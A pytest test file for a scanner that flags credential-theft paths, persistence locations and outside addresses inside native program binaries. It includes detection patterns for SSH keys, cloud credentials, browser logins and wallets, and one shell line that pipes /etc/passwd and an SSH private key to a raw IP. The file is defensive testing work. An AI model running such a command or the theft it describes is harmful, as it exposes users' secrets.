"""C4, C8 and C10 in machine code: what stands in it in words."""

import pytest

from tests.vetting.domain.signals.files.test_native import PE
from tests.vetting.domain.signals.looking import brief, found, side
from vetting.domain.signals.files import native_strings
from vetting.domain.signals.files.native_words import (
    AddressInProgram,
    CredentialsInProgram,
    StartUpInProgram,
    told_by,
)
from vetting.domain.signals.interface import FileSide

ELF = b"\x7fELF\2\1\1"
RULES = (CredentialsInProgram(), StartUpInProgram(), AddressInProgram())


def program(*strings: bytes, head: bytes = ELF) -> bytes:
    """Make something that begins as a program does, with strings in it."""
    return b"\0".join([head, *strings, b""])


def wide(text: str) -> bytes:
    """Write a string as Windows has it in memory."""
    return text.encode("utf-16-le")


def seen(data: bytes, old: bytes | None = None, path: str = "demo/demo.so") -> list[tuple[str, str, str]]:
    """Give rule, severity and scope of all that the rules see."""
    findings = [one for rule in RULES for one in found(rule, path, data, old)]
    return [(one.rule, one.severity.value, one.scope.value) for one in findings]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (program(b"/etc/passwd", b"%s/.ssh/", b"sendto"), ("C4", "medium")),
        (program(b"/etc/passwd", b"%s/.ssh/", b"/.aws/credentials", b"getaddrinfo"), ("C4", "high")),
        (program(b"wallet.dat", b"%s/.ssh/", b"/.aws/credentials"), ("C4", "medium")),
        (
            program(wide("\\Google\\Chrome\\User Data\\Login Data"), wide("wallet.dat"), b"WinHttpOpen", head=PE),
            ("C4", "medium"),
        ),
        (program(b"/etc/cron.d/demo"), ("C8", "medium")),
        (program(b"~/Library/LaunchAgents/demo.plist"), ("C8", "medium")),
        (program(wide("Software\\Microsoft\\Windows\\CurrentVersion\\Run"), head=PE), ("C8", "medium")),
        (program(b"see https://webhook.site/x for"), ("C10", "medium")),
        (program(b"http://93.184.216.34/x"), ("C10", "medium")),
    ],
)
def test_what_a_program_names_is_seen(data: bytes, expected: tuple[str, str]) -> None:
    """In strings of one byte a character, and in those of Windows; what stood there before is context."""
    assert seen(data) == [(*expected, "delta")]
    assert seen(data, data) == [(*expected, "context")]
    assert seen(data, program(b"nothing")) == [(*expected, "delta")]


@pytest.mark.parametrize(
    "data",
    [
        program(b"%s/.ssh/id_rsa", b"%s%s.netrc", b"getaddrinfo", b"https://example.test/"),
        program(b"/etc/passwd", b"/.ssh/"),
        program(b"application_default_credentials.json", b"metadata.google.internal", b"getaddrinfo"),
        program(b"Add this to your ~/.bashrc, please, or else nothing of what you wanted works at all, ever" * 2),
        program(b".profile", b".ssh-agent"),
        program(b"http://127.0.0.1/", b"https://example.test/docs"),
        b"#!/bin/sh\ncat /etc/passwd ~/.ssh/id_rsa | sendto http://93.184.216.34\n",
    ],
    ids=range(7),
)
def test_what_honest_programs_name_is_not(data: bytes) -> None:
    """Each knows a place or two: what asks for pages, what runs in a cloud, what writes help; scripts are read."""
    assert seen(data) == []


def test_bytecode_and_what_is_not_held_whole_are_not_looked_at() -> None:
    """Bytecode has its strings in another form, and of a head nobody knows the rest."""
    data = program(b"/etc/cron.d/demo")
    assert told_by(side("demo.pyc", b"/etc/cron.d/demo")) is None
    one = side("demo.so", data)
    assert told_by(FileSide(one.path, one.matched, one.sha256, one.data, is_whole=False)) is None


def test_too_many_strings_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
    """The rule stumbles, which makes the scan unfinished."""
    monkeypatch.setattr(native_strings, "MAX_HITS", 3)
    with pytest.raises(ValueError, match="more than 3 strings"):
        found(RULES[0], "demo.so", program(*[b"http://example.test/"] * 4))


def test_another_place_makes_it_another_sighting() -> None:
    """A program that named two kinds and now names three is another."""
    old = program(b"/etc/passwd", b"%s/.ssh/", b"sendto")
    assert brief(found(RULES[0], "demo.so", old + b"\0wallet.dat\0", old)) == [("high", "delta", None, None)]
